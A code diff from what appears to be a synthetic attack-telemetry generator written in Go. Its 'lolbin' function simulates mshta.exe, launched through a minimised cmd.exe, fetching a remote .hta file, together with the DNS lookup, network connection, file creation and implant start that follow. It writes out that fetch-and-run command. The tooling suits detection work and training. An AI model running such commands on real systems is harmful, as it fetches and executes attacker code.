@@ -28,11 +28,11 @@ func lolbin(e trace.Env, at int64, a Args) {
 		file, cmd = "mshta.exe", fmt.Sprintf(`mshta.exe https://%s/u.hta`, host)
 	}
 	host1 := e.Start(dev, e.O.Image(dev, "cmd.exe"), d.Explorer.User, d.Explorer, at, `"C:\Windows\system32\cmd.exe" /c start /min `+cmd)
-	tool := e.Start(dev, e.O.Image(dev, file), host1.User, host1, at+e.R.Between(40, 200)*tick.Millisecond, cmd)
+	tool := e.Start(dev, e.O.Image(dev, file), host1.User, host1, at+e.R.Between(40*tick.Millisecond, 200*tick.Millisecond), cmd)
 	if !d.Home || d.VPN {
-		e.Lookup(tool.Created+e.R.Between(100, 400)*tick.Millisecond, trace.Name{Client: d.Inside, Name: host, Answer: ip})
+		e.Lookup(tool.Created+e.R.Between(100*tick.Millisecond, 400*tick.Millisecond), trace.Name{Client: d.Inside, Name: host, Answer: ip})
 	}
-	e.Connect(tool, tool.Created+e.R.Between(500, 1900)*tick.Millisecond, trace.Flow{LocalIP: d.IP, RemoteIP: ip, Port: 443, URL: url, Site: d.Firewall(), Sent: e.R.Between(500, 900), Received: im.Size + 4100})
+	e.Connect(tool, tool.Created+e.R.Between(500*tick.Millisecond, 1900*tick.Millisecond), trace.Flow{LocalIP: d.IP, RemoteIP: ip, Port: 443, URL: url, Site: d.Firewall(), Sent: e.R.Between(500, 900), Received: im.Size + 4100})
 	e.File(tool, tool.Created+e.R.Between(2*tick.Second, 5*tick.Second), trace.FileEvent{Action: "FileCreated", Path: path, Image: im, OriginURL: url, OriginIP: ip})
 	e.Started(implantOf(e, d, a))
 }
